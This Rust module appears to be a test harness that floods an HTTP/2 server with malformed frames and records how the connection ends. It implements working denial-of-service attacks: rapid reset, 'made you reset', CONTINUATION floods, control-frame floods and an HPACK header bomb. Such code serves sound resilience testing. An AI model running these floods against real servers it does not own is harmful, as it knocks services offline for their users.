//! Clients that violate HTTP/2. They send raw frames as fast as the server reads them, and record how the connection
//! ends.

use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

/// Bytes per write.
const BATCH: usize = 16 << 10;

/// A client that sends the same frames repeatedly.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// The name of the attack.
    pub name: &'static str,
    opening: fn() -> Vec<u8>,
    unit: fn(u32) -> Vec<u8>,
}

/// The result of an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Outcome {
    /// How often the unit was written. The server may not have read the last ones.
    pub units: u64,
    /// Whether the server closed the connection.
    pub cut: bool,
    /// The error code of the server's last GOAWAY.
    pub goaway: Option<u32>,
}

/// All attacks on an open connection: floods that cost CPU time, and header blocks that cost memory.
pub const ATTACKS: [Attack; 15] = [
    flood("ping", |_| frame(PING, 0, 0, &[0; 8])),
    flood("ping answer", |_| frame(PING, ACK, 0, &[0; 8])),
    flood("settings", |_| frame(SETTINGS, 0, 0, &[])),
    flood("settings answer", |_| frame(SETTINGS, ACK, 0, &[])),
    flood("window update", |_| {
        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
    }),
    flood("priority", |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
    flood("unknown type", |_| frame(0x42, 0, 0, &[])),
    flood("priority update", |_| {
        frame(0x10, 0, 0, &[0, 0, 0, 1, b'u'])
    }),
    flood("rapid reset", |n| {
        let (stream, end) = (2 * n + 1, END_HEADERS | END_STREAM);
        let mut bytes = frame(HEADERS, end, stream, &get());
        bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        bytes
    }),
    flood("made you reset", |n| {
        let (stream, end) = (2 * n + 1, END_HEADERS | END_STREAM);
        let mut bytes = frame(HEADERS, end, stream, &get());
        // An increment of zero is a stream error (RFC 9113, section 6.9).
        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
        bytes
    }),
    Attack {
        name: "continuation",
        opening: || frame(HEADERS, END_STREAM, 1, &get()),
        unit: |_| frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
    },
    Attack {
        name: "empty data",
        opening: || frame(HEADERS, END_HEADERS, 1, &post()),
        unit: |_| frame(DATA, 0, 1, &[]),
    },
    Attack {
        name: "thin data",
        opening: || frame(HEADERS, END_HEADERS, 1, &post()),
        unit: |_| frame(DATA, 0, 1, &[0]),
    },
    Attack {
        name: "headers again",
        opening: || frame(HEADERS, END_HEADERS, 1, &post()),
        unit: |_| frame(HEADERS, END_HEADERS | END_STREAM, 1, &get()),
    },
    flood("header bomb", |n| {
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &bomb())
    }),
];

const fn flood(name: &'static str, unit: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        opening: Vec::new,
        unit,
    }
}

impl Attack {
    /// Attacks until the server closes the connection or has read `most` units. Reads all of the server's frames.
    pub async fn run<I: AsyncRead + AsyncWrite>(self, io: I, most: u64) -> Outcome {
        let (mut from, mut to) = tokio::io::split(io);
        let units = AtomicU64::new(0);
        let attack = async {
            to.write_all(&[&preface()[..], &(self.opening)()].concat())
                .await?;
            let mut batch = Vec::with_capacity(2 * BATCH);
            for n in (0..u32::MAX / 2).take(usize::try_from(most).unwrap_or(usize::MAX)) {
                batch.extend((self.unit)(n));
                if batch.len() >= BATCH {
                    to.write_all(&batch).await?;
                    batch.clear();
                }
                units.fetch_add(1, Ordering::Relaxed);
            }
            to.write_all(&batch).await
        };
        let mut frames = ServerFrames::default();
        let written = tokio::select! {
            () = frames.listen(&mut from) => Err(()),
            done = attack => done.map_err(|_| ()),
        };
        let cut = written.is_err();
        // The write can fail before the GOAWAY is read.
        if cut && !frames.ended {
            frames.listen(&mut from).await;
        }
        Outcome {
            units: units.load(Ordering::Relaxed),
            cut,
            goaway: frames.goaway,
        }
    }
}

/// The first bytes of a client: preface and empty SETTINGS (RFC 9113, section 3.4).
pub fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// Encodes a frame (RFC 9113, section 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// `GET /healthz` (RFC 7541, appendix A: method 2, scheme 6, path 4).
fn get() -> Vec<u8> {
    [&[0x82, 0x86, 0x04, 8][..], b"/healthz"].concat()
}

/// A call without a credential. The server refuses it while its body is still open.
fn post() -> Vec<u8> {
    const PATH: &[u8] = b"/fleetnodegateway.v1.FleetNodeGatewayService/UploadHeartbeat";
    const TYPE: &[u8] = b"application/proto";
    // Method 3, scheme 6, path 4, content-type 31.
    let mut block = vec![0x83, 0x86, 0x04, PATH.len() as u8];
    block.extend(PATH);
    block.extend([0x0f, 16, TYPE.len() as u8]);
    block.extend(TYPE);
    block
}

/// A header block of 6 KiB that expands to 8 MiB: one long header, then 2,000 references to it.
fn bomb() -> Vec<u8> {
    const REPEAT: usize = 2_000;
    let mut block = get();
    // A name of one byte, then 4,000 as an integer with a 7-bit prefix (RFC 7541, section 5.1).
    block.extend([0x40, 1, b'b', 0x7f, 0xa1, 0x1e]);
    block.resize(block.len() + 4_000, b'x');
    block.resize(block.len() + REPEAT, 0xbe);
    block
}

/// The relevant frames from the server.
#[derive(Debug, Default)]
struct ServerFrames {
    bytes: Vec<u8>,
    goaway: Option<u32>,
    ended: bool,
}

impl ServerFrames {
    /// Reads until the server closes the connection, cleanly or not.
    async fn listen(&mut self, from: &mut (impl AsyncRead + Unpin)) {
        let mut piece = [0; 4_096];
        while let Ok(read) = from.read(&mut piece).await
            && read > 0
        {
            self.bytes.extend(&piece[..read]);
            while self.step() {}
        }
        self.ended = true;
    }

    /// Processes one complete frame. Returns false if there is none.
    fn step(&mut self) -> bool {
        let [a, b, c, kind, ..] = self.bytes[..] else {
            return false;
        };
        let end = 9 + u32::from_be_bytes([0, a, b, c]) as usize;
        if self.bytes.len() < end {
            return false;
        }
        if let (GOAWAY, [.., w, x, y, z]) = (kind, &self.bytes[..17.min(end)]) {
            self.goaway = Some(u32::from_be_bytes([*w, *x, *y, *z]));
        }
        self.bytes.drain(..end);
        true
    }
}
